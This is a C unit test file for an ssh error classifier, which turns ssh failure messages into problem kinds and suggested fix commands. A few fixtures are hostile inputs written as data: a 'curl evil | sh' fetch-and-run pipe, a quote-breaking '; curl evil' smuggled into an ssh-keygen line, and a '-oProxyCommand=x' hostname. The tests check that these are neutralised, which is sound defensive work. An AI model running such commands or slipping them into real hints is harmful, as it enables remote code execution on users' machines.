/* ssh_errors: the last words of ssh, and what they mean. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <string.h>

#include <cmocka.h>

#include "collect/ssh_errors.h"

static const struct ssh_target alice = {.user = "alice", .address = "gpu2", .port = 2222};

static const struct {
	const char *tail;
	enum problem_kind kind;
	const char *hint; /* its beginning */
} cases[] = {
	{"ssh: Could not resolve hostname gpu2: Name or service not known\r\n", PROBLEM_DNS, "getent hosts gpu2"},
	{"ssh: Could not resolve hostname gpu2: Temporary failure in name resolution\n", PROBLEM_DNS, "getent"},
	{"ssh: connect to host gpu2 port 2222: Connection refused\r\n", PROBLEM_REFUSED, "systemctl status ssh"},
	{"ssh: connect to host gpu2 port 2222: No route to host\r\n", PROBLEM_UNREACHABLE, "ping gpu2"},
	{"ssh: connect to host gpu2 port 2222: Network is unreachable\r\n", PROBLEM_UNREACHABLE, "ip route get gpu2"},
	{"ssh: connect to host gpu2 port 2222: Connection timed out\r\n", PROBLEM_TIMEOUT, "ping gpu2"},
	{"Connection timed out during banner exchange\r\nConnection to 127.0.0.1 port 2222 timed out\r\n", PROBLEM_TIMEOUT,
	 "ssh -v"},
	{"Timeout, server gpu2 not responding.\r\n", PROBLEM_TIMEOUT, "ping gpu2"},
	{"No ED25519 host key is known for [gpu2]:2222 and you have requested strict checking.\nHost key verification failed.\n",
	 PROBLEM_HOST_KEY, "ssh -p 2222 alice@gpu2"},
	{"ssh: connect to host jump port 9: Connection refused\r\nkex_exchange_identification: Connection closed by remote "
	 "host\r\n"
	 "Connection closed by UNKNOWN port 65535\r\n",
	 PROBLEM_REFUSED, "systemctl status ssh"},
	{"@    WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!     @\n  remove with:\n  ssh-keygen -f "
	 "\"/home/a/.ssh/known_hosts\" -R "
	 "\"gpu-alias\"\nHost key for gpu-alias has changed and you have requested strict checking.\nHost key verification "
	 "failed.\r\n",
	 PROBLEM_HOST_KEY, "ssh-keygen -f '/home/a/.ssh/known_hosts' -R 'gpu-alias' && ssh -p 2222 alice@gpu2"},
	{"  ssh-keygen -f \"k\"; curl evil | sh; \" -R \"x\"\nHost key for x has changed and you have requested strict "
	 "checking.\n"
	 "Host key verification failed.\r\n",
	 PROBLEM_HOST_KEY, "ssh-keygen -f 'k' -R 'x' && ssh -p 2222 alice@gpu2"},
	{"  ssh-keygen -f \"k\" -R \"x' ; curl evil '\"\nHost key for x has changed and you have requested strict checking.\n"
	 "Host key verification failed.\r\n",
	 PROBLEM_HOST_KEY, "ssh-keygen -R '[gpu2]:2222'"},
	{"Host key for gpu2 has changed and you have requested strict checking.\nHost key verification failed.\r\n",
	 PROBLEM_HOST_KEY, "ssh-keygen -R '[gpu2]:2222' && ssh -p 2222 alice@gpu2"},
	{"Welcome to gpu2, all use is logged\nalice@gpu2: Permission denied (publickey,password).\r\n", PROBLEM_AUTH,
	 "ssh-copy-id -p 2222 alice@gpu2"},
	{"Received disconnect from 10.0.0.2 port 22:2: Too many authentication failures\r\nDisconnected\r\n", PROBLEM_AUTH,
	 "ssh-add -l"},
	{"Connection to gpu2 closed by remote host.\r\n", PROBLEM_CLOSED, ""},
	{"kex_exchange_identification: Connection closed by remote host\r\nConnection closed by 127.0.0.1 port 2222\r\n",
	 PROBLEM_CLOSED, ""},
	{"client_loop: send disconnect: Broken pipe\r\n", PROBLEM_CLOSED, ""},
	{"/root/.ssh/config: line 3: Bad configuration option: foo\r\n", PROBLEM_SSH, "ssh -G gpu2"},
	{"Unable to negotiate with 10.0.0.2 port 22: no matching host key type found. Their offer: ssh-rsa\r\n", PROBLEM_SSH,
	 "ssh -v"},
	{"Permission denied (see the rules of this lab)\nssh: connect to host gpu2 port 22: No route to host\r\n",
	 PROBLEM_UNREACHABLE, "ping gpu2"},
	{"quota: Connection refused\nConnection to gpu2 closed by remote host.\r\n", PROBLEM_CLOSED, ""},
	{"channel 0: open failed: connect failed: No route to host\r\nstdio forwarding failed\r\nConnection closed by UNKNOWN "
	 "port 65535\r\n",
	 PROBLEM_UNREACHABLE, "ping gpu2"},
	{"kex_exchange_identification: Connection closed by remote host\r\nConnection closed by UNKNOWN port 65535\r\n",
	 PROBLEM_CLOSED, "ssh -v -p 2222 alice@gpu2   # what connects in ssh's place"},
	{"ssh_exchange_identification: Connection closed by remote host\r\n", PROBLEM_CLOSED, ""},
	{"root@jump.lab: Permission denied (publickey).\r\nkex_exchange_identification: Connection closed by remote host\r\n"
	 "Connection closed by UNKNOWN port 65535\r\n",
	 PROBLEM_AUTH, "ssh-copy-id root@jump.lab   # the jump host on the way to gpu2"},
	{"ro;ot@jump: Permission denied (publickey).\r\nConnection closed by UNKNOWN port 65535\r\n", PROBLEM_AUTH,
	 "ssh-copy-id -p 2222 alice@gpu2"},
	{"ssh: connect to host jump port 22: Connection timed out\r\nConnection closed by UNKNOWN port 65535\r\n",
	 PROBLEM_TIMEOUT, "ping jump "},
	{"ssh: Could not resolve hostname jump: Name or service not known\r\nConnection closed by UNKNOWN port 65535\r\n",
	 PROBLEM_DNS, "getent hosts jump "},
	{"channel 0: open failed: administratively prohibited: open failed\r\nstdio forwarding failed\r\nConnection closed by "
	 "UNKNOWN port 65535\r\n",
	 PROBLEM_SSH, "sudo grep -rn AllowTcpForwarding "},
	{"channel 0: open failed: connect failed: Connection refused\r\nstdio forwarding failed\r\n", PROBLEM_REFUSED,
	 "systemctl status ssh   # on gpu2: the jump host"},
	{"channel 0: open failed: connect failed: Name or service not known\r\nstdio forwarding failed\r\n", PROBLEM_DNS,
	 "getent hosts gpu2   # on the jump host"},
	{"No ED25519 host key is known for jump.lab and you have requested strict checking.\r\nHost key verification failed.\r\n"
	 "kex_exchange_identification: Connection closed by remote host\r\nConnection closed by UNKNOWN port 65535\r\n",
	 PROBLEM_HOST_KEY, "ssh -p 2222 alice@gpu2   # once, by hand, to compare and accept the host key of jump.lab"},
	{"Connection closed by 10.0.0.9 port 22\r\nkex_exchange_identification: Connection closed by remote host\r\n"
	 "Connection closed by UNKNOWN port 65535\r\n",
	 PROBLEM_CLOSED, "sudo journalctl -u ssh -u sshd -n 20   # on 10.0.0.9: "},
	{"root@jump.lab: Permission denied (password).\r\nConnection closed by UNKNOWN port 65535\r\n", PROBLEM_AUTH,
	 "sudo grep -rn PubkeyAuthentication /etc/ssh   # on jump.lab"},
	{"ssh: connect to host 10.0.0.2 port 22: No route to host\r\n", PROBLEM_UNREACHABLE, "ping 10.0.0.2 "},
	{"ssh: connect to host -oProxyCommand=x port 22: No route to host\r\n", PROBLEM_UNREACHABLE, "ping gpu2 "},
	{"alice@gpu2: Permission denied (password,keyboard-interactive).\r\n", PROBLEM_AUTH,
	 "sudo grep -rn PubkeyAuthentication /etc/ssh   # on gpu2"},
	{"Your account has expired; please contact your system administrator.\n\nConnection closed by 10.0.0.2 port 2222\r\n",
	 PROBLEM_AUTH, "sudo chage -l alice   # on gpu2"},
	{"All use is logged.\nConnection closed by 10.0.0.2 port 2222\r\n", PROBLEM_CLOSED,
	 "sudo journalctl -u ssh -u sshd -n 20   # on gpu2"},
	{"/bin/sh: 1: nc: not found\nConnection closed by UNKNOWN port 65535\r\n", PROBLEM_SSH, "ssh -v"},
	{"Host key verification failed.\r\n", PROBLEM_HOST_KEY, "ssh -p 2222 alice@gpu2"},
	{"something nobody has seen\n", PROBLEM_SSH, "ssh -v -p 2222 alice@gpu2"},
	{"", PROBLEM_SSH, "ssh -v -p 2222 alice@gpu2"},
};

static void tells_failures_apart(void **state)
{
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		struct ssh_error error;

		ssh_errors_classify(slice_of(cases[i].tail), &alice, &error);
		if (error.kind != cases[i].kind)
			fail_msg("%s: %s", cases[i].tail, problem_name(error.kind));
		if (!slice_starts_with(slice_of(error.hint), cases[i].hint))
			fail_msg("%s: hint %s", cases[i].tail, error.hint);
	}
}

static void the_message_is_the_line_that_tells(void **state)
{
	struct ssh_error error;

	ssh_errors_classify(slice_of("banner\nssh: connect to host gpu2 port 22: Connection refused\r\nbye\n"), &alice, &error);
	assert_true(slice_is(error.message, "ssh: connect to host gpu2 port 22: Connection refused"));
	ssh_errors_classify(slice_of("/bin/sh: 1: nc: not found\nConnection closed by UNKNOWN port 65535\r\n"), &alice, &error);
	assert_true(slice_is(error.message, "/bin/sh: 1: nc: not found"));
	ssh_errors_classify(slice_of(" \r\n"), &alice, &error);
	assert_true(slice_is(error.message, "ssh ended without a word"));
	assert_non_null(strstr(error.hint, "-q"));
}

static void a_hint_has_the_words_of_ssh_command(void **state)
{
	char *words[] = {(char[]){"ssh"}, (char[]){"-F"}, (char[]){"/my lab"}, (char[]){"-J"}, (char[]){"jump"}, NULL};
	const struct ssh_target target = {.user = "alice", .address = "gpu2", .command = words};
	static const struct {
		const char *tail, *hint;
	} lines[] = {
		{"", "ssh -F '/my lab' -J jump -v alice@gpu2   # "},
		{"alice@gpu2: Permission denied (publickey).", "ssh-copy-id -F '/my lab' -o ProxyJump=jump alice@gpu2"},
		{"bob@jump: Permission denied (publickey).\nConnection closed by UNKNOWN port 65535",
		 "ssh-copy-id -F '/my lab' bob@jump   # the jump host on the way to gpu2"},
		{"Host key verification failed.", "ssh -F '/my lab' -J jump alice@gpu2   # once"},
	};
	struct ssh_error error;

	for (size_t i = 0; i < sizeof(lines) / sizeof(lines[0]); i++) {
		ssh_errors_classify(slice_of(lines[i].tail), &target, &error);
		if (!slice_starts_with(slice_of(error.hint), lines[i].hint))
			fail_msg("%s", error.hint);
	}
}

/* Half of a command is none. */
static void a_hint_that_does_not_fit_is_left_out(void **state)
{
	char file[2000], *words[] = {(char[]){"ssh"}, (char[]){"-F"}, file, NULL};
	const struct ssh_target target = {.address = "gpu2", .command = words};
	struct ssh_error error;

	memset(file, 'x', sizeof(file) - 1);
	file[sizeof(file) - 1] = '\0';
	ssh_errors_classify(slice_of("Host key verification failed."), &target, &error);
	assert_int_equal(error.kind, PROBLEM_HOST_KEY);
	assert_string_equal(error.hint, "");
}

static void defaults_need_no_options(void **state)
{
	const struct ssh_target plain = {.address = "gpu1"};
	struct ssh_error error;

	ssh_errors_classify(slice_of("gpu1: Permission denied (publickey)."), &plain, &error);
	assert_string_equal(error.hint, "ssh-copy-id gpu1");
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(tells_failures_apart),
		cmocka_unit_test(the_message_is_the_line_that_tells),
		cmocka_unit_test(defaults_need_no_options),
		cmocka_unit_test(a_hint_has_the_words_of_ssh_command),
		cmocka_unit_test(a_hint_that_does_not_fit_is_left_out),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
